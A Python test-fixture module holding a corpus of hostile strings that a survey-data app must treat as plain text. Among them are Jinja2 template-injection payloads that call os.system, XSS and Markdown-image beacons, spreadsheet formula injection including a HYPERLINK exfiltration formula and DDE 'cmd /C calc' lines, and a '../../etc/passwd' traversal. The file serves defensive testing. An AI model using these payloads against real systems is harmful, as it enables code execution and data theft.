"""Hostile strings that every door must carry as plain text: a shared corpus for the tests.

Each string is something a community name, a note, a column header or a file name could hold in a
real (or malicious) survey file. Whatever door it passes (import, upload, map, public notice,
exports, downloads), it must come back as the same text, and nothing in it may be evaluated:

- template engines (Jinja2 in folium/branca): ``{{ }}``, ``{% %}``, ``{# ``, unbalanced braces;
  the payloads that would run code write :data:`MARKER_NAME` into the working folder, so a test
  can assert that file never appears;
- JavaScript template literals and HTML/JS injection (a browser test listens for dialogs);
- Markdown links and images (Streamlit renders Markdown; an image would make the browser fetch
  :data:`OUTSIDE_URL`);
- spreadsheet formulas, also behind control and invisible characters;
- right-to-left marks, and a very long name.
"""

from __future__ import annotations

MARKER_NAME = "hostile-marker-created"
"""A file that an evaluated payload creates in the current folder; it must never exist."""

OUTSIDE_URL = "http://127.0.0.2:9/leak.png"
"""An address no test serves: a request to it means text became a link or an image."""

TEMPLATE = [
    "{{ 6*7 }}",
    "{{ lipsum.__globals__.os.getpid() }}",
    "{{ lipsum.__globals__['os'].popen('touch " + MARKER_NAME + "').read() }}",
    "{{ cycler.__init__.__globals__.os.system('touch " + MARKER_NAME + "') }}",
    "{% for x in range(3) %}loop{% endfor %}",
    "{% import os %}{{ os.system('touch " + MARKER_NAME + "') }}",
    "{# an unclosed comment",
    "{{ unbalanced",
    "}} closing only {%",
    "{{'{{'}}",
    "${alert(document.domain)}",
    "`${fetch('" + OUTSIDE_URL + "')}`",
]

MARKUP = [
    "<script>alert('xss')</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "</script><script>alert(2)</script>",
    "<!--",
    "&lt;b&gt;entity&lt;/b&gt; & ampersand",
    "javascript:alert(1)",
]

MARKDOWN = [
    f"![t]({OUTSIDE_URL})",
    f"[点我]({OUTSIDE_URL})",
    "**bold** _it_ `code` # heading",
    ":red[colour] :material/warning: $x^2$",
]

FORMULA = [
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(9)",
    "\t=1+2",
    "\r=1+2",
    '\x01=HYPERLINK("' + OUTSIDE_URL + '?d="&C2,"详情")',
    "\u200b=1+2",
    "\ufeff=cmd|' /C calc'!A0",
    "\u202e=1+2",
    "\u00a0=1+2",
    "＝1+2",
    '=DDE("cmd";"/C calc";"A0")',
]

TEXT = [
    "\u202e小区名称\u202c",
    "\u200f右到左\u200e",
    "名" * 300,
    "a;b,c\"d'e\\f",
    "..",
    "../../etc/passwd",
]

ALL = TEMPLATE + MARKUP + MARKDOWN + FORMULA + TEXT
"""Every hostile string, in a fixed order."""
